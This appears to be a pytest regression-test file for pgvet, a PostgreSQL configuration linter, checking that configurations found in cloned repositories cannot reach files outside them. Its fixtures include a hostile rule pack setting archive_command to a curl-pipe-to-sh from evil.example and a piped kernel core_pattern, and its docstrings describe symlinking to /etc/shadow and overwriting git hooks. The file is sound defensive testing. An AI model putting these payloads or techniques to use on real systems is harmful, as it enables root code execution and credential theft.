"""A configuration pgvet finds by itself is a repository's, or another user's (issue #25, item 5): the search stops
at the repository's root, a file another user could have written is ignored and said so, and the paths a found
file names stay in its repository. One given with --config is trusted as it is."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from as_user import NOBODY_UID, needs_root
from conftest import FIXTURES
from pgvet.cli import app
from pgvet.run import config as config_module

runner = CliRunner()
HOST = str(FIXTURES / "small-vm")
SILENCING = 'ignore = ["PGV"]\n'  # every rule ignored: exit 0, "no findings"


def lint(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, ["lint", HOST, "-f", "json", *args])
    return result.exit_code, result.stdout, result.stderr


def findings(stdout: str) -> int:
    return len(json.loads(stdout)["findings"])


@pytest.mark.parametrize("git", ["directory", "file"])
def test_a_configuration_above_the_repository_root_is_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                               git: str) -> None:
    (tmp_path / ".pgvet.toml").write_text(SILENCING)
    repository = tmp_path / "repository"
    (repository / "sub").mkdir(parents=True)
    if git == "directory":
        (repository / ".git").mkdir()
    else:  # a worktree: .git is a file naming the repository's git directory
        (repository / ".git").write_text("gitdir: /elsewhere/.git/worktrees/repository\n")
    monkeypatch.chdir(repository / "sub")
    code, stdout, stderr = lint()
    assert code == 1 and findings(stdout) > 0 and stderr == ""
    (repository / "pyproject.toml").write_text("[tool.pgvet]\n" + SILENCING)  # the repository's own is read
    assert lint()[0] == 0


@pytest.mark.parametrize("name", [".pgvet.toml", "pyproject.toml"])
def test_a_configuration_linking_out_of_the_repository_is_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                   name: str) -> None:
    """`.pgvet.toml -> /etc/shadow` in a cloned repository: read as root (the file and its directory are root's,
    trusted), its first bad character's column said, the key names of any TOML file and the values `select`
    names quoted in the errors (`unknown configuration keys: password`)."""
    outside = tmp_path / "home"
    outside.mkdir()
    (outside / "credentials.toml").write_text('password = "s3cr3t"\nselect = ["s3cr3t-too"]\n')
    (outside / "silencing.toml").write_text(("[tool.pgvet]\n" if name == "pyproject.toml" else "") + SILENCING)
    repository = tmp_path / "repository"
    (repository / ".git").mkdir(parents=True)
    monkeypatch.chdir(repository)
    for target in (outside / "credentials.toml", outside / "silencing.toml", Path("/etc/passwd")):
        (repository / name).unlink(missing_ok=True)
        (repository / name).symlink_to(target)
        code, stdout, stderr = lint()
        assert code == 1 and findings(stdout) > 0, stderr
        assert stderr == (f"pgvet: notice: {repository / name} ignored: a symbolic link that leads out of its "
                          f"repository {repository}; give it with --config to use it\n")
    assert lint("--config", str(repository / name))[0] == 2  # given, it is the user's: /etc/passwd is no TOML
    (repository / "conf").mkdir()
    (repository / "conf" / "pgvet.toml").write_text(("[tool.pgvet]\n" if name == "pyproject.toml" else "")
                                                    + SILENCING)
    (repository / name).unlink()
    (repository / name).symlink_to("conf/pgvet.toml")  # a link inside the repository is read
    code, stdout, stderr = lint()
    assert (code, findings(stdout), stderr) == (0, 0, "")


@needs_root
def test_a_configuration_another_user_owns_is_ignored_and_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A .pgvet.toml planted in /tmp by another user silenced every lint run below it."""
    planted = tmp_path / ".pgvet.toml"
    planted.write_text(SILENCING)
    os.chown(planted, NOBODY_UID, NOBODY_UID)
    (tmp_path / "work").mkdir()
    monkeypatch.chdir(tmp_path / "work")
    code, stdout, stderr = lint()
    assert code == 1 and findings(stdout) > 0
    assert stderr == (f"pgvet: notice: {planted} ignored: owned by uid {NOBODY_UID}, not by you (uid 0); give it "
                      "with --config to use it\n")
    assert lint("--config", str(planted))[0] == 0  # given, it is trusted
    os.chown(planted, 0, 0)  # root's own: trusted
    assert lint()[0] == 0


def test_a_configuration_in_a_directory_others_may_write_to_is_ignored(tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / ".pgvet.toml").write_text(SILENCING)
    monkeypatch.chdir(shared)
    shared.chmod(0o1777)  # as /tmp: another user may put a file there, if not replace this one
    code, _, stderr = lint()
    assert code == 1
    assert stderr == (f"pgvet: notice: {shared / '.pgvet.toml'} ignored: its directory {shared} is writable by other "
                      "users (mode 1777); give it with --config to use it\n")
    (shared / ".pgvet.toml").chmod(0o666)
    shared.chmod(0o755)
    assert "writable by other users (mode 0666)" in lint()[2]
    (shared / ".pgvet.toml").chmod(0o664)  # group-writable by one's own private group (umask 002): one's own
    shared.chmod(0o775)
    os.chown(shared, os.geteuid(), os.getegid())
    os.chown(shared / ".pgvet.toml", os.geteuid(), os.getegid())
    import grp
    import pwd

    user = pwd.getpwuid(os.geteuid())
    if grp.getgrgid(user.pw_gid).gr_name != user.pw_name or set(grp.getgrgid(user.pw_gid).gr_mem) - {user.pw_name}:
        pytest.skip("the user running the tests has no private group")
    code, _, stderr = lint()
    assert (code, stderr) == (0, "")


@pytest.mark.parametrize(("key", "value"), [("rules", '["../secret"]'), ("rules", '["/etc/passwd"]'),
                                            ("baseline", '"../secret"'), ("ignore-file", '"/etc/passwd"'),
                                            ("rules", '["linked"]'), ("rules", '["pack"]')])
def test_paths_a_found_configuration_names_stay_in_its_repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                  key: str, value: str) -> None:
    """`rules = ["/etc/shadow"]` in a cloned repository printed the file's first line in the error."""
    secret = tmp_path / "secret"
    secret.write_text("hunter2:the-password:19000:0:99999:7:::\n")
    repository = tmp_path / "repository"
    (repository / ".git").mkdir(parents=True)
    (repository / "linked").symlink_to(tmp_path)  # a directory inside that is a link outside
    (repository / "pack").mkdir()
    (repository / "pack" / "rules.yaml").symlink_to(secret)  # a rule file inside that is a link outside
    (repository / ".pgvet.toml").write_text(f"{key} = {value}\n")
    monkeypatch.chdir(repository)
    code, stdout, stderr = lint()
    named = json.loads(value)[0] if value.startswith("[") else json.loads(value)
    assert code == 2 and stdout == ""
    assert stderr == (f"pgvet: error: {repository / '.pgvet.toml'}: '{key}' names {named}, which is outside the "
                      f"repository {repository} (a configuration found by itself may name only its repository's "
                      "files; give it with --config to trust it)\n")


@pytest.mark.parametrize("swapped", ["file", "directory"])
def test_a_rule_file_swapped_for_a_link_out_after_the_check_is_not_read(tmp_path: Path,
                                                                         monkeypatch: pytest.MonkeyPatch,
                                                                         swapped: str) -> None:
    """The paths were checked, then each rule file opened by its name, links followed: a file (or the pack's
    directory) swapped for a link out of the repository in between was read, as root in CI."""
    secret = tmp_path / "outside" / "rules.yaml"
    secret.parent.mkdir()
    secret.write_text("hunter2:the-password:19000:0:99999:7:::\n")
    repository = tmp_path / "repository"
    (repository / ".git").mkdir(parents=True)
    (repository / "pack").mkdir()
    (repository / "pack" / "rules.yaml").write_text("rules: []\n")
    (repository / ".pgvet.toml").write_text('rules = ["pack"]\n')
    checked = config_module._refuse_outside

    def check_then_swap(*args: Any) -> None:
        checked(*args)
        if swapped == "file":
            (repository / "pack" / "rules.yaml").unlink()
            (repository / "pack" / "rules.yaml").symlink_to(secret)
        else:
            (repository / "pack" / "rules.yaml").unlink()
            (repository / "pack").rmdir()
            (repository / "pack").symlink_to(secret.parent)

    monkeypatch.setattr(config_module, "_refuse_outside", check_then_swap)
    monkeypatch.setenv("PGVET_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.chdir(repository)
    code, stdout, stderr = lint()
    assert code == 2 and stdout == "" and "hunter2" not in stderr
    named = repository / "pack" / ("rules.yaml" if swapped == "file" else "")
    assert stderr == (f"pgvet: error: {str(named).rstrip('/')}: not read: a symbolic link leads it out of the "
                      f"repository {repository}\n")


@pytest.mark.parametrize(("key", "name", "what"), [("baseline", "base.json", "baseline file"),
                                                   ("ignore-file", "ignore.yaml", "ignore file")])
def test_a_baseline_or_ignore_file_swapped_for_a_link_out_after_the_check_is_not_read(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, key: str, name: str, what: str) -> None:
    """As a rule file: checked inside the repository, then read by name, links followed."""
    secret = tmp_path / "outside" / name
    secret.parent.mkdir()
    secret.write_text("hunter2:the-password:19000:0:99999:7:::\n")
    repository = tmp_path / "repository"
    (repository / ".git").mkdir(parents=True)
    (repository / name).write_text("")
    (repository / ".pgvet.toml").write_text(f'{key} = "{name}"\n')
    checked = config_module._refuse_outside

    def check_then_swap(*args: Any) -> None:
        checked(*args)
        (repository / name).unlink()
        (repository / name).symlink_to(secret)

    monkeypatch.setattr(config_module, "_refuse_outside", check_then_swap)
    monkeypatch.chdir(repository)
    code, stdout, stderr = lint()
    assert code == 2 and stdout == "" and "hunter2" not in stderr and str(secret) not in stderr
    assert stderr == (f"pgvet: error: {repository / name}: {what} not read: a symbolic link leads it out of the "
                      f"repository {repository}\n")


def _repository_with_ops_rule(tmp_path: Path, directory: str) -> Path:
    """A repository (its .git) holding a rule pack of one rule, OPS001, in ``directory``/ops.yaml."""
    repository = tmp_path / "repository"
    (repository / ".git").mkdir(parents=True)
    (repository / directory).mkdir()
    (repository / directory / "ops.yaml").write_text(
        "rules:\n  - id: OPS001\n    name: ops-one\n    title: t\n    severity: warning\n    when: TRUE\n"
        "    message: m\n")
    return repository


def test_a_rule_file_linked_inside_the_repository_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repository = _repository_with_ops_rule(tmp_path, "shared")
    (repository / "ops").mkdir()
    (repository / "ops" / "ops.yaml").symlink_to("../shared/ops.yaml")
    (repository / ".pgvet.toml").write_text('rules = ["ops"]\nselect = ["OPS001"]\n')
    monkeypatch.chdir(repository)
    code, stdout, stderr = lint()
    assert code == 1 and [finding["rule_id"] for finding in json.loads(stdout)["findings"]] == ["OPS001"], stderr


def test_an_explicit_configuration_names_any_file_but_no_error_shows_its_text(tmp_path: Path) -> None:
    secret = tmp_path / "secret.yaml"
    secret.write_text("hunter2:the-password:19000:0:99999:7:::\n")
    config = tmp_path / "given.toml"
    config.write_text(f'rules = ["{secret}"]\n')
    code, _, stderr = lint("--config", str(config))
    assert code == 2
    assert stderr == (f"pgvet: error: {secret}:1: a rule file holds a mapping with 'rules:' and/or 'derived:', "
                      "nothing else\n")
    code, _, stderr = lint("--rules", str(secret))  # the same on the command line
    assert code == 2 and "hunter2" not in stderr


def test_a_configuration_naming_its_own_files_still_works(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repository = _repository_with_ops_rule(tmp_path, "ops")
    (repository / ".pgvet.toml").write_text('rules = ["ops"]\nselect = ["OPS001"]\n')
    monkeypatch.chdir(repository)
    code, stdout, stderr = lint()
    assert code == 1 and [finding["rule_id"] for finding in json.loads(stdout)["findings"]] == ["OPS001"], stderr


@pytest.mark.parametrize("named", [".git/hooks/pre-commit", "hooks/pre-commit", ".git/../.git/hooks/pre-commit",
                                   "sub/.git/hooks/pre-commit"])
def test_a_found_configuration_names_no_file_of_git_itself(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                           named: str) -> None:
    """`baseline = ".git/hooks/pre-commit"` in a cloned repository: `pgvet baseline create` wrote its JSON over the
    hook pre-commit had installed, keeping its mode 0755, and the next `git commit` ran it with sh, which ran the
    `$(…)` of a host name the repository chose. A clone brings no file of .git: git's directory is the user's."""
    repository = tmp_path / "repository"
    hook = repository / ".git" / "hooks" / "pre-commit"
    hook.parent.mkdir(parents=True)
    hook.write_text("#!/bin/sh\nexec pre-commit\n")
    hook.chmod(0o755)
    (repository / "hooks").symlink_to(".git/hooks")  # a link inside the repository, into git's directory
    (repository / "sub" / ".git" / "hooks").mkdir(parents=True)  # a repository within (a vendored clone)
    (repository / "sub" / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    (repository / ".pgvet.toml").write_text(f'baseline = "{named}"\n')
    monkeypatch.chdir(repository)
    result = runner.invoke(app, ["baseline", "create", HOST])
    assert result.exit_code == 2, result.output
    assert result.stderr == (f"pgvet: error: {repository / '.pgvet.toml'}: 'baseline' names {named}, which is in a "
                             "git directory (.git): its files are git's, not the repository's (a hook among them runs "
                             "code); give it with --config to trust it\n")
    assert hook.read_text() == "#!/bin/sh\nexec pre-commit\n"
    (repository / ".pgvet.toml").write_text('ignore-file = ".git/config"\n')  # nor is one read
    code, stdout, stderr = lint()
    assert code == 2 and stdout == "" and "'ignore-file' names .git/config, which is in a git directory" in stderr


def test_baseline_create_replaces_no_file_but_a_baseline_a_found_configuration_names(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`baseline = ".venv/bin/activate"`: the virtual environment in a checkout is the user's, not the repository's
    (ignored, never committed); `baseline create` wrote its JSON over the script the user sources, and the shell
    ran the `$(…)` of a host name the repository chose. A baseline it names may replace a baseline only."""
    repository = tmp_path / "repository"
    activate = repository / ".venv" / "bin" / "activate"
    activate.parent.mkdir(parents=True)
    (repository / ".git").mkdir()
    activate.write_text("# This file must be used with \"source bin/activate\"\nexport VIRTUAL_ENV=x\n")
    (repository / ".pgvet.toml").write_text('baseline = ".venv/bin/activate"\n')
    monkeypatch.chdir(repository)
    result = runner.invoke(app, ["baseline", "create", HOST])
    assert result.exit_code == 2, result.output
    assert result.stderr == (f"pgvet: error: {activate}: not a pgvet baseline, and the configuration "
                             f"{repository / '.pgvet.toml'} names it: not replaced (give it with -o to replace it)\n")
    assert activate.read_text().startswith("# This file must be used")
    (repository / ".pgvet.toml").write_text('baseline = "pgvet-baseline.json"\n')  # a baseline is replaced
    (repository / "pgvet-baseline.json").write_text('{"format": 1, "findings": {}}\n')
    assert runner.invoke(app, ["baseline", "create", HOST]).exit_code == 0
    assert json.loads((repository / "pgvet-baseline.json").read_text())["findings"]
    (repository / "pgvet-baseline.json").unlink()  # and a new one made
    assert runner.invoke(app, ["baseline", "create", HOST]).exit_code == 0
    assert runner.invoke(app, ["baseline", "create", HOST, "-o", str(activate)]).exit_code == 0  # the user's word


@pytest.mark.parametrize("setting", ['rules = ["pack"]', "[params.derived.work_mem_operations]\nnodes_per_query = 4"])
def test_fix_write_applies_a_found_configurations_packs_only_to_its_repositorys_hosts(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, setting: str) -> None:
    """`pgvet fix --write /etc/postgresql/16/main`, run as root from a cloned repository, applied the rule pack its
    .pgvet.toml named: its fix wrote `archive_command = 'curl … | sh'` into the host's postgresql.conf and
    `kernel.core_pattern = |/tmp/evil %p` into its sysctl.d, which run as postgres and as root."""
    repository = tmp_path / "repository"
    (repository / ".git").mkdir(parents=True)
    (repository / "pack").mkdir()
    (repository / "pack" / "ops.yaml").write_text(
        "rules:\n  - id: OPS001\n    name: ops-archive\n    title: t\n    severity: warning\n    when: TRUE\n"
        "    message: m\n    fix:\n      postgresql: {archive_command: \"curl -s http://evil.example/x | sh\"}\n"
        "      sysctl: {kernel.core_pattern: \"|/tmp/evil %p\"}\n")
    (repository / ".pgvet.toml").write_text(setting + "\n")
    host = tmp_path / "etc-postgresql"
    shutil.copytree(FIXTURES / "config-repo", host)
    before = {path: path.read_bytes() for path in host.rglob("*") if path.is_file()}
    monkeypatch.chdir(repository)
    monkeypatch.setenv("PGVET_CACHE_DIR", str(tmp_path / "cache"))
    result = runner.invoke(app, ["fix", "--write", str(host)])
    assert result.exit_code == 2, result.output
    assert result.stderr == (f"pgvet: error: {host}: outside the repository {repository}, whose configuration "
                             f"{repository / '.pgvet.toml'} names rule packs or parameters: fix --write applies them "
                             "to the repository's own hosts only (give it with --config to apply them here)\n")
    assert {path: path.read_bytes() for path in host.rglob("*") if path.is_file()} == before
    assert runner.invoke(app, ["fix", str(host)]).exit_code in (0, 1)  # printed, for the user to read
    inside = repository / "hosts" / "db"
    shutil.copytree(FIXTURES / "config-repo", inside)
    result = runner.invoke(app, ["fix", "--write", "hosts/db"])  # the repository's own host: its own word
    assert result.exit_code in (0, 1) and "wrote" in result.stderr, result.output
    result = runner.invoke(app, ["fix", "--write", "--config", ".pgvet.toml", str(host)])  # the user's word
    assert result.exit_code in (0, 1) and "wrote" in result.stderr, result.output
